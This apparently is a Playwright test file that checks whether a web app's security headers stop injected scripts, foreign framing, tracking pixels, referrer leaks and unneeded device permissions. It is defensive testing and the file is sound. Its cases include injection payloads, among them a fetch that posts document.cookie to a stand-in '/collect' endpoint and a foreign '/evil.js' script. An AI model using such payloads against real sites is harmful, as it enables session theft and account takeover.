/** What the headers keep a browser from: scripts that are not ours, frames, other sites' eyes, devices nobody needs. */
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser as Chromium, BrowserContext, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { openContext, settled, usual } from '../screens/open-page.ts'
import { type Filled, startFilled } from '../screens/start-filled.ts'
import { openChromium } from '../support/chromium.ts'
import { until } from '../support/until.ts'

let chromium: Chromium
let filled: Filled
let context: BrowserContext
/** Another site, and what it was asked for. */
let stranger: Server
let strangerUrl: string
const asked: { path: string; headers: IncomingHttpHeaders }[] = []

beforeAll(async () => {
  filled = await startFilled({ empty: true })
  chromium = await openChromium()
  stranger = createServer((request, response) => {
    asked.push({ path: request.url ?? '', headers: request.headers })
    response.setHeader('content-type', request.url?.endsWith('.js') ? 'text/javascript' : 'text/html')
    response.end(
      request.url?.endsWith('.js')
        ? 'window.taken = "by another site"'
        : `<!doctype html><title>Altcineva</title><iframe src="${filled.url}/"></iframe>`,
    )
  })
  await new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve))
  strangerUrl = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`
})
afterEach(async () => {
  await context?.close()
  asked.length = 0
})
afterAll(async () => {
  await chromium?.close()
  stranger?.close()
  await filled?.stop()
})

/** A page of ours, signed in, that remembers what its policy has refused. */
async function open(path: string): Promise<Page> {
  context = await openContext(chromium, filled.url, usual, { signIn: true })
  await context.addInitScript(`
    window.refused = []
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => window.refused.push(effectiveDirective))
  `)
  const page = await context.newPage()
  await page.goto(path)
  await settled(page)
  return page
}
const refused = (page: Page) => page.evaluate<string[]>('window.refused')

describe('a page of ours', { timeout: 60_000 }, () => {
  it('needs nothing that its policy refuses', async () => {
    const page = await open('/')
    expect(await refused(page)).toEqual([])
    for (const path of ['/calendar', '/meetings/new', '/administration']) {
      await page.goto(path)
      await settled(page)
      expect(await refused(page)).toEqual([])
    }
  })

  it.each([
    [
      'a script within the page',
      `const s = document.createElement('script'); s.textContent = 'window.taken = 1'; document.body.append(s)`,
      'script-src-elem',
    ],
    [
      'a handler in an attribute',
      `const b = document.createElement('button'); b.setAttribute('onclick', 'window.taken = 1'); document.body.append(b); b.click()`,
      'script-src-attr',
    ],
    [
      'a script of another site',
      `const s = document.createElement('script'); s.src = STRANGER + '/evil.js'; document.body.append(s)`,
      'script-src-elem',
    ],
    [
      'a style within the page',
      `const s = document.createElement('style'); s.textContent = 'body { display: none }'; document.body.append(s)`,
      'style-src-elem',
    ],
    [
      'a picture of another site, which would tell it who looks',
      `new Image().src = STRANGER + '/pixel.png'`,
      'img-src',
    ],
    [
      'words sent to another site',
      `fetch(STRANGER + '/collect', { method: 'POST', body: document.cookie }).catch(() => 0)`,
      'connect-src',
    ],
    [
      'a frame',
      `const f = document.createElement('iframe'); f.src = STRANGER; document.body.append(f)`,
      'frame-src',
    ],
    [
      'another base for its addresses',
      `const b = document.createElement('base'); b.href = STRANGER; document.head.append(b)`,
      'base-uri',
    ],
  ])('runs and loads nothing of others: %s', async (_what, attack, directive) => {
    const page = await open('/')
    await page.evaluate(attack.replaceAll('STRANGER', JSON.stringify(strangerUrl)))
    await until('it is refused', async () => (await refused(page)).includes(directive))
    expect(await page.evaluate('window.taken')).toBeUndefined()
    expect(asked).toEqual([])
  })

  it('is shown in no frame of another site', async () => {
    const page = await open('/')
    await page.goto(strangerUrl)
    await until('the frame has ended', () => page.frames()[1]?.url().startsWith('chrome-error:'))
  })

  it('does not tell another site where somebody came from', async () => {
    // Its address is a secret: whoever has it is the guest.
    const page = await open('/g/o-adresa-secreta-0123456789abcdef')
    await page.evaluate(`location.href = ${JSON.stringify(`${strangerUrl}/next`)}`)
    const arrival = await until('the other site is asked', () => asked.find(({ path }) => path === '/next'))
    expect(arrival.headers.referer).toBeUndefined()
  })

  it('may use the devices of a conference and no others', async () => {
    const page = await open('/')
    const allowed = (feature: string) =>
      page.evaluate<boolean>(`document.featurePolicy.allowsFeature(${JSON.stringify(feature)})`)
    for (const feature of ['camera', 'microphone', 'display-capture', 'fullscreen'])
      expect(await allowed(feature), feature).toBe(true)
    for (const feature of ['geolocation', 'payment', 'usb', 'midi', 'serial', 'hid'])
      expect(await allowed(feature), feature).toBe(false)
  })
})
